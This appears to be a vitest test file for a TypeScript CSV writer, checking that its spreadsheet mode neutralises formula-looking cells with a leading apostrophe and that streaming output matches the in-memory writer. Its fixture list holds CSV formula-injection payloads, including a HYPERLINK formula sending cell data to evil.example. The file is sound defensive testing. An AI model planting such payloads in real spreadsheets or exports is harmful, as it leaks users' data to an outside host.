import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvBatchStream, csvStream, writeCsv } from "@/lib/csv/write-csv";

const FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "@SUM(A1:A9)", "+1+1", "-2+3", "\t=1", "\r=1", "  =1+1", " @cmd"];

const cells = (csv: string) => parse(csv.replace(/^\uFEFF/, "")) as string[][];

describe("writeCsv", () => {
  it("spreadsheet mode puts an apostrophe before every formula-looking text cell, leaves other text and numbers as they are, and starts with a BOM", () => {
    const csv = writeCsv("spreadsheet", ["value", "n"], [...FORMULAS.map((f) => [f, -5]), ["Plain, with a comma", 0], ["a=b", null]]);
    expect(csv.startsWith("\uFEFFvalue,n\r\n")).toBe(true);
    const rows = cells(csv).slice(1);
    expect(rows.slice(0, FORMULAS.length).map((r) => r[0])).toEqual(FORMULAS.map((f) => `'${f}`));
    expect(rows.slice(0, FORMULAS.length).every((r) => r[1] === "-5")).toBe(true);
    expect(rows.slice(FORMULAS.length)).toEqual([["Plain, with a comma", "0"], ["a=b", ""]]);
  });

  it("machine mode writes every value exactly, with no BOM", () => {
    const csv = writeCsv("machine", ["value"], FORMULAS.map((f) => [f]));
    expect(csv.startsWith("value\r\n")).toBe(true);
    expect(cells(csv).slice(1).map((r) => r[0])).toEqual(FORMULAS);
  });

  it("streams the same spreadsheet-safe text as the in-memory writer", async () => {
    const stream = csvStream("spreadsheet", ["value"]);
    for (const f of FORMULAS) stream.write([f]);
    stream.end();
    let out = "";
    for await (const chunk of stream) out += String(chunk);
    expect(out).toBe(writeCsv("spreadsheet", ["value"], FORMULAS.map((f) => [f])));
  });

  it("a batch stream pulls one batch at a time and writes the same text as the in-memory writer", async () => {
    const batches = [FORMULAS.slice(0, 3).map((f) => [f, 1]), [], FORMULAS.slice(3).map((f) => [f, 2])];
    let pulled = 0;
    async function* source() {
      for (const b of batches) {
        pulled++;
        yield b;
      }
    }
    const reader = csvBatchStream("spreadsheet", ["value", "n"], source()).getReader();
    const decoder = new TextDecoder("utf-8", { ignoreBOM: true });
    const first = await reader.read();
    expect(pulled).toBeLessThanOrEqual(2);
    let out = decoder.decode(first.value, { stream: true });
    for (let r = await reader.read(); !r.done; r = await reader.read()) out += decoder.decode(r.value, { stream: true });
    expect(out).toBe(writeCsv("spreadsheet", ["value", "n"], batches.flat()));
    expect(pulled).toBe(3);
  });

  it("a batch stream with no rows is the header alone", async () => {
    const text = await new Response(csvBatchStream("machine", ["value"], (async function* () {})())).text();
    expect(text).toBe(writeCsv("machine", ["value"], []));
  });
});
